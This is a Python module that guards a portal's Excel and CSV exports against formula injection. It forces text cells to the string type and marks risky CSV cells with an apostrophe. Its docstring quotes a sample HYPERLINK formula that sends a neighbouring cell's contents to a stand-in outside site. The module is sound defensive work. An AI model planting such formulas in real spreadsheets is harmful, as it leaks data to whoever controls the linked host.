"""Spreadsheet cells that stay what they say: text typed into the portal never becomes a formula.

Names and titles typed into the portal (a member's, a partner's, an activity's) end up in files
that somebody else opens in Excel or WPS, often someone who sees more committees. There a cell
that starts with ``=`` is a formula (``=HYPERLINK("http://e.x/?"&J2,"查看")`` sends a neighbouring
cell to another site when clicked), and in a CSV so is one that starts with ``+``, ``-``, ``@``, a
tab or a carriage return. Every export of the portal writes its cells through this module:

* in a workbook a text cell is written *as text* (its type says so): the reader sees exactly the
  text that was typed, and nothing runs;
* a CSV has no types, so such a text gets a leading apostrophe, the spreadsheets' own mark for
  "this is text" (the OWASP rule); an import here takes it off again
  (``portal.core.importing.normalise_text_cell``), so an export imports back unchanged.
"""

from __future__ import annotations

import datetime as dt

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

#: What makes a spreadsheet read a CSV cell as a formula (or, in a workbook, ``=`` alone).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_TEXT_MARK = "'"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"


def sheet_cell(sheet, value: object, **style: object) -> WriteOnlyCell:
    """A cell for ``sheet`` (openpyxl, write-only): text always as text, never a formula, less the
    control characters Excel refuses (pasted from Word); a date-time shown as one."""
    if isinstance(value, str):
        cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
        cell.data_type = "s"  # never a formula, whatever the text starts with
    else:
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, dt.datetime):
            cell.number_format = DATETIME_FORMAT
    for name, setting in style.items():
        setattr(cell, name, setting)
    return cell


def csv_cell(value: object) -> object:
    """``value`` for a CSV cell: a text a spreadsheet would take for a formula, marked as text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return CSV_TEXT_MARK + value
    return value


def csv_cell_unmarked(text: str) -> str:
    """``text`` as it was before ``csv_cell`` marked it (for an export that is imported back)."""
    if text.startswith(CSV_TEXT_MARK) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
